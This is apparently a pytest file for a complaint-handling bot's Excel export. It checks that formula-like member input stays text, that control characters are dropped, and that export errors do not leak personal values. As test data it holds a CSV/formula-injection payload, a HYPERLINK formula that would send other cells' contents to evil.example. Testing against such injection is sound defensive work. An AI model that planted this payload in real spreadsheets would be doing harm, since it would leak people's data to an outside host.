"""What members type cannot hijack or break the staff workbook (issue 17.7): a display name
or text starting with = + - @ stays text (never a live formula), control characters Excel
refuses are dropped, and a failing export names no cell value or message text."""

from __future__ import annotations

from datetime import UTC, datetime
from decimal import Decimal
from types import SimpleNamespace
from zoneinfo import ZoneInfo

import pytest
from openpyxl import load_workbook
from sqlalchemy import select

from bot.app import BotApp
from handlers import exports
from mediation.deadlines import DeadlinePolicy
from mediation.reports import Month, build_monthly_report
from mediation.workdays import WorkingCalendar
from storage.models import InboxMessage, OutboxMessage

from .conversation import STAFF, Group, Person

HIJACK = '=HYPERLINK("http://evil.example/?d="&R2&S2,"点我")'
TZ = ZoneInfo("Asia/Shanghai")


def _row(**fields: object) -> SimpleNamespace:
    values: dict[str, object] = {
        "number": "CY-202606-0001",
        "received_at": datetime(2026, 6, 2, 2, tzinfo=UTC),
        "accepted_at": None,
        "closed_at": None,
        "status": "pending",
        "merchant_name": "张记饺子馆",
        "grid": None,
        "category": None,
        "category_group": None,
        "problem": None,
        "amount": Decimal("58"),
        "demands": ["退款"],
        "money_returned": None,
        "rating": None,
        "reporter_name": "网格员小李",
        "contacts": ["13812345678"],
        "raw_text": "多收58元",
        "overdue_at": None,
        "working_days_to_close": None,
    }
    values.update(fields)
    return SimpleNamespace(**values)


def _build(rows: list[SimpleNamespace]):  # type: ignore[no-untyped-def]
    calendar = WorkingCalendar()
    report = build_monthly_report(Month(2026, 6), [], [], [], tz=TZ)
    return exports.build_workbook(
        report,
        rows,  # type: ignore[arg-type]
        as_of=datetime(2026, 7, 1, tzinfo=UTC),
        calendar=calendar,
        policy=DeadlinePolicy(),
        tz=TZ,
    )


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "＝", "\t", "\r"])
def test_a_cell_that_looks_like_a_formula_is_written_as_text(start: str, tmp_path) -> None:  # type: ignore[no-untyped-def]
    value = start + 'HYPERLINK("http://evil.example/","点我")'
    workbook = _build([_row(reporter_name=value, raw_text=value, merchant_name=value)])
    path = exports.save_workbook(workbook, tmp_path, "2026-06")

    sheet = load_workbook(path)["案件"]
    for cell in sheet[2]:
        assert cell.data_type != "f", cell.coordinate
    hostile = [cell for cell in sheet[2] if str(cell.value).endswith('"点我")')]
    assert len(hostile) == 3
    for cell in hostile:  # text with a quote prefix: stays text even when edited in Excel
        assert cell.data_type == "s" and cell.quotePrefix, cell.coordinate


def test_control_characters_are_dropped_and_the_rest_kept(tmp_path) -> None:  # type: ignore[no-untyped-def]
    workbook = _build([_row(reporter_name="小\x01李", raw_text="多收\x0b58元\x00")])
    sheet = load_workbook(exports.save_workbook(workbook, tmp_path, "2026-06"))["案件"]
    values = [cell.value for cell in sheet[2]]
    assert "小李" in values and "多收58元" in values


def test_a_failing_export_names_no_value(monkeypatch: pytest.MonkeyPatch) -> None:
    secret = "消费者13812345678"

    from openpyxl.cell.cell import Cell

    check_string = Cell.check_string

    def refuse(self, value):  # type: ignore[no-untyped-def]
        if value == secret:  # as openpyxl's IllegalCharacterError does, quoting the value
            raise ValueError(f"{value!r} cannot be used")
        return check_string(self, value)

    monkeypatch.setattr(Cell, "check_string", refuse)
    with pytest.raises(Exception) as caught:
        _build([_row(raw_text=secret)])
    described = f"{type(caught.value).__name__}: {caught.value}"
    assert "13812345678" not in described and "消费者" not in described
    assert caught.value.__cause__ is None and caught.value.__suppress_context__


async def test_hostile_name_and_control_characters_in_a_complaint_export_fine(
    bot: BotApp, group: Group
) -> None:
    attacker = Person("grid-evil", HIJACK)
    await group.say(STAFF, f"/role @{attacker.id} 网格员", mentions=(attacker,))
    await group.say(
        attacker,
        "【投诉】湖西路张记饺子馆多收\x01消费者58元\x0b，要求退款，电话13812345678",
    )
    await group.say(STAFF, "/export 本月")

    async with bot.sessions() as session:
        errors = list(await session.scalars(select(InboxMessage.error)))
        path = await session.scalar(
            select(OutboxMessage.image_path).where(OutboxMessage.image_path.is_not(None))
        )
    assert errors == [None] * len(errors)
    assert path is not None
    sheet = load_workbook(path)["案件"]
    assert all(cell.data_type != "f" for row in sheet.iter_rows() for cell in row)
    assert HIJACK in [cell.value for cell in sheet[2]]
